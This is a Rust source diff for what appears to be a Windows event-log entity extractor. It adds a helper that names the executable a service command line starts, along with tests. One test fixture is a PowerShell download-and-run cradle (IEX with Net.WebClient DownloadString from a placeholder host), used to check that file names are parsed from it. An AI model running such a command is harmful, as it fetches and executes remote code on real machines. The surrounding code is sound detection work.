@@ -32,6 +32,8 @@ enum Reading {
     Process(&'static str),
     /// The file name at the end of a path.
     File(&'static str),
+    /// The file that a command line starts.
+    Program(&'static str),
     /// The files that a command line names, programs and libraries aside.
     Files(&'static str),
     /// An address; anything else and loopback is nobody.
@@ -40,16 +42,16 @@ enum Reading {
     Host(&'static str),
 }
 
-use Reading::{Account, File, Files, Host, Ip, Process, Session, User};
+use Reading::{Account, File, Files, Host, Ip, Process, Program, Session, User};
 use Role::{Actor, Object, Source, Target};
 
 const PROCESS_EVENTS: &[i64] = &[2, 5, 7, 9, 11, 12, 13, 14, 15, 17, 18, 22, 23, 24, 25, 26, 27, 28, 29];
 const FILE_EVENTS: &[i64] = &[2, 11, 15, 23, 26, 27, 28, 29];
 const ACCOUNT_EVENTS: &[i64] = &[4720, 4722, 4723, 4724, 4725, 4726, 4738, 4740, 4767, 4781];
 const SUBJECT_EVENTS: &[i64] = &[
-    1102, 4648, 4656, 4657, 4658, 4660, 4661, 4662, 4663, 4670, 4672, 4673, 4674, 4688, 4689, 4697, 4698, 4699, 4700,
-    4701, 4702, 4703, 4704, 4719, 4720, 4722, 4723, 4724, 4725, 4726, 4728, 4732, 4738, 4740, 4756, 4767, 4781, 4798,
-    4799, 5136, 5137, 5140, 5141, 5142, 5145,
+    1102, 4648, 4656, 4657, 4658, 4660, 4661, 4662, 4663, 4670, 4672, 4673, 4674, 4688, 4689, 4697, 4698,
+    4699, 4700, 4701, 4702, 4703, 4704, 4719, 4720, 4722, 4723, 4724, 4725, 4726, 4728, 4732, 4738, 4740,
+    4756, 4767, 4781, 4798, 4799, 5136, 5137, 5140, 5141, 5142, 5145,
 ];
 
 /// One line for each thing that an event names.
@@ -95,7 +97,7 @@ const TABLE: &[Line] = &[
     Line("security", &[4688], Object, Process("NewProcessName")),
     Line("security", &[4688], Object, Files("CommandLine")),
     Line("security", &[4656, 4657, 4663, 4673, 4689], Actor, Process("ProcessName")),
-    Line("security", &[4697], Object, File("ServiceFileName")),
+    Line("security", &[4697], Object, Program("ServiceFileName")),
     Line("security", ACCOUNT_EVENTS, Target, Account("TargetDomainName", "TargetUserName")),
     Line("security", &[5140, 5145], Source, Ip("IpAddress")),
     Line("security", &[5145], Object, File("RelativeTargetName")),
@@ -103,7 +105,7 @@ const TABLE: &[Line] = &[
     Line("security", &[5156, 5157], Source, Ip("SourceAddress")),
     Line("security", &[5156, 5157], Target, Ip("DestAddress")),
     // Other channels
-    Line("system", &[7045], Object, File("ImagePath")),
+    Line("system", &[7045], Object, Program("ImagePath")),
     Line("powershell", &[4104], Object, File("Path")),
     Line("terminalservices-localsessionmanager", &[], Actor, User("User")),
     Line("terminalservices-localsessionmanager", &[], Source, Ip("Address")),
@@ -121,10 +123,13 @@ impl Found<'_> {
         let fields = self.fields;
         match *reading {
             User(field) => self.add(role, EntityKind::User, fields.text(field)),
-            Account(domain, user) => self.add(role, EntityKind::User, account(fields, domain, user).as_deref()),
+            Account(domain, user) => {
+                self.add(role, EntityKind::User, account(fields, domain, user).as_deref())
+            }
             Session(field) => self.add(role, EntityKind::Session, session(fields, field).as_deref()),
             Process(field) => self.add(role, EntityKind::Process, fields.text(field).map(base_name)),
             File(field) => self.add(role, EntityKind::File, fields.text(field).map(base_name)),
+            Program(field) => self.add(role, EntityKind::File, fields.text(field).map(program)),
             Files(field) => {
                 for file in fields.text(field).into_iter().flat_map(named_files) {
                     self.add(role, EntityKind::File, Some(file));
@@ -135,7 +140,9 @@ impl Found<'_> {
                 self.add(role, EntityKind::Ip, address.as_deref());
             }
             // Kerberos and SMB write `\\NAME`.
-            Host(field) => self.add(role, EntityKind::Host, fields.text(field).map(|h| h.trim_start_matches('\\'))),
+            Host(field) => {
+                self.add(role, EntityKind::Host, fields.text(field).map(|h| h.trim_start_matches('\\')))
+            }
         }
     }
 
@@ -164,6 +171,17 @@ fn base_name(path: &str) -> &str {
     path.rsplit(['\\', '/']).next().unwrap_or(path)
 }
 
+/// Name of the file that a command line starts: what is in quotes, or else up to `.exe`, or else the first word.
+fn program(command: &str) -> &str {
+    let command = command.trim_start();
+    if let Some(inside) = command.strip_prefix('"') {
+        return base_name(inside.split('"').next().unwrap_or(inside));
+    }
+    let exe = command.to_ascii_lowercase().find(".exe").map(|at| at + ".exe".len());
+    let end = exe.or_else(|| command.find(char::is_whitespace)).unwrap_or(command.len());
+    base_name(command.get(..end).unwrap_or(command))
+}
+
 /// Bytes of a command line that are searched for files.
 const COMMAND_MAX: usize = 32 * 1024;
 
@@ -185,7 +203,8 @@ const NOT_A_FILE: &[&str] = &["exe", "dll", "com", "net", "org", "local"];
 fn file_in(word: &str) -> Option<&str> {
     let name = base_name(word);
     let (stem, ending) = name.rsplit_once('.')?;
-    let plain = !name.contains(['(', ')', '[', ']', '{', '}', '<', '>', '|', ';', '$', '*', '?', ':', '@', '&', '%']);
+    let plain =
+        !name.contains(['(', ')', '[', ']', '{', '}', '<', '>', '|', ';', '$', '*', '?', ':', '@', '&', '%']);
     let ends = (1..=5).contains(&ending.len())
         && ending.bytes().all(|b| b.is_ascii_alphanumeric())
         && ending.bytes().any(|b| b.is_ascii_alphabetic());
@@ -200,12 +219,17 @@ mod tests {
     #[test]
     fn a_command_line_names_its_documents_and_scripts() {
         for (command, files) in [
-            (r#""C:\Program Files\Office\WINWORD.EXE" /n "C:\Users\m.keller\My Docs\Invoice_2026-03.docm" /o """#,
-             &["Invoice_2026-03.docm"][..]),
+            (
+                r#""C:\Program Files\Office\WINWORD.EXE" /n "C:\Users\m.keller\My Docs\Invoice_2026-03.docm" /o """#,
+                &["Invoice_2026-03.docm"][..],
+            ),
             ("python.exe flowcalc.py --host 10.1.10.5", &["flowcalc.py"]),
             (r"C:\Windows\system32\cmd.exe /c C:\x\a.bat,b.ps1", &["a.bat", "b.ps1"]),
             ("rundll32.exe shell32.dll,Control_RunDLL", &[]),
-            ("powershell IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')", &["x.ps1"]),
+            (
+                "powershell IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')",
+                &["x.ps1"],
+            ),
             ("ping server.plant.local -n 1.5", &[]),
             ("", &[]),
         ] {
@@ -218,5 +242,13 @@ mod tests {
         assert_eq!(base_name(r"C:\a\b.exe"), "b.exe");
         assert_eq!(base_name("\"/usr/bin/x\""), "x");
         assert_eq!(base_name(""), "");
+    }
+
+    #[test]
+    fn a_service_is_called_after_the_file_it_starts() {
+        assert_eq!(program(r#""C:\a b\c.exe" -k"#), "c.exe");
+        assert_eq!(program(r"C:\Program Files\x\Y.EXE -k z"), "Y.EXE");
+        assert_eq!(program(r"\SystemRoot\System32\drivers\m.sys"), "m.sys");
+        assert_eq!(program(r"%COMSPEC% /c echo"), "%COMSPEC%");
     }
 }
